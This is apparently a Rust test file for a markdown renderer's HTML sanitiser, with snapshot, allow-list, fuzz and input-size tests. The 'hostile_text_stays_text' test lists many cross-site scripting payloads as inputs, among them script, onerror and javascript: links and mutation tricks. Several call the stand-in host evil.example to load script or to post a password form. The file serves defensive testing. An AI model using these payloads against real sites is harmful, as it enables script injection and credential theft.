use super::*;

fn rendered(text: &str) -> String {
    render(text).into_string()
}

#[test]
fn ordinary_text_reads_well() {
    insta::assert_snapshot!(rendered(
        "# Title\n\nSome *emphasis*, **weight**, `code` and ~~nothing~~.\n\n- [ ] open\n- [x] done\n\n1. one\n2. two\n\n\
         | a | b |\n|---|--:|\n| 1 | 2 |\n\n```rust\nfn main() { println!(\"<b>\"); }\n```\n\nhttps://example.org and \
         [a link](https://example.org/x \"title\")\n\n![a picture](https://example.org/p.png)\n\n> quoted"
    ));
}

/// Nothing of what a browser would load, run or submit may come out as an element or attribute.
fn assert_harmless(source: &str) {
    let out = rendered(source);
    let lower = out.to_lowercase();
    // Text is escaped: only real tags begin with `<`.
    for tag in lower.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let name = tag.trim_start_matches('/').split([' ', '\n', '\t', '/']).next().unwrap_or_default();
        assert!(
            [
                "a",
                "blockquote",
                "br",
                "code",
                "del",
                "em",
                "h1",
                "h2",
                "h3",
                "h4",
                "h5",
                "h6",
                "hr",
                "li",
                "ol",
                "p",
                "pre",
                "strong",
                "table",
                "tbody",
                "td",
                "th",
                "thead",
                "tr",
                "ul"
            ]
            .contains(&name),
            "<{name}> from {source:?}: {out}"
        );
        for attribute in attributes(tag) {
            let (key, value) = attribute;
            assert!(
                ["href", "title", "rel", "start", "align", "class"].contains(&key.as_str()),
                "{key} from {source:?}: {out}"
            );
            if key == "href" {
                assert!(
                    ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                    "{value} from {source:?}: {out}"
                );
            }
            assert!(key != "class" || value == "plain", "{out}");
        }
    }
}

/// `key="value"` pairs of one tag as ammonia writes them.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
    while let Some((key, after)) = rest.split_once("=\"") {
        let (value, next) = after.split_once('"').unwrap_or((after, ""));
        found.push((key.trim().to_owned(), value.to_owned()));
        rest = next;
    }
    found
}

#[test]
fn hostile_text_stays_text() {
    for source in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "![x](javascript:alert(1))",
        "![x](x\" onerror=\"alert(1))",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "[x](//evil.example/path)",
        "[x](/executions/1/cancel)",
        "<javascript:alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<style>*{display:none}</style>",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<form action=https://evil.example><input name=password></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<iframe src=https://evil.example></iframe>",
        "<object data=x></object><embed src=x>",
        "<base href=https://evil.example>",
        "<a href=javascript:alert(1) onclick=alert(1)>x</a>",
        "<details open ontoggle=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>",
        "```\"><script>alert(1)</script>\nx\n```",
        "```html onload=alert(1)\nx\n```",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[a]: javascript:alert(1)\n\n[a]",
        "<https://example.org/\"onmouseover=alert(1)>",
        "https://example.org/\"onmouseover=\"alert(1)",
        "[x](https://example.org 'title\" onmouseover=\"alert(1)')",
        "<div id=composer data-action=allow>",
    ] {
        assert_harmless(source);
    }
}

#[test]
fn pictures_are_links_and_load_nothing() {
    let out = rendered("![chart](https://example.org/a.png)");
    assert!(!out.contains("<img"), "{out}");
    assert!(out.contains("href=\"https://example.org/a.png\""), "{out}");
}

#[test]
fn hostile_sizes_end_quickly() {
    let started = std::time::Instant::now();
    for source in [
        ">".repeat(100_000),
        "[".repeat(100_000),
        "*a ".repeat(50_000),
        "- ".repeat(20_000),
        "1. ".repeat(20_000),
        "`".repeat(100_000),
        "<".repeat(100_000),
        "![".repeat(50_000),
        "|a".repeat(50_000),
        (0..3_000).map(|depth| format!("{}- x\n", " ".repeat(depth * 2))).collect::<String>(),
        "a **b ".repeat(50_000),
        "x".repeat(MAX_MARKDOWN_BYTES + 1),
    ] {
        let _ = rendered(&source);
    }
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}

proptest::proptest! {
    #[test]
    fn whatever_is_written_comes_out_harmless(source in "([a-z \n]|[<>\"'&;:()\\[\\]!`*_#|/=\\\\-]|javascript:|data:|<script>|<img src=x onerror=|<svg |style=|</p>|\\]\\(|https://){0,60}") {
        assert_harmless(&source);
    }
}
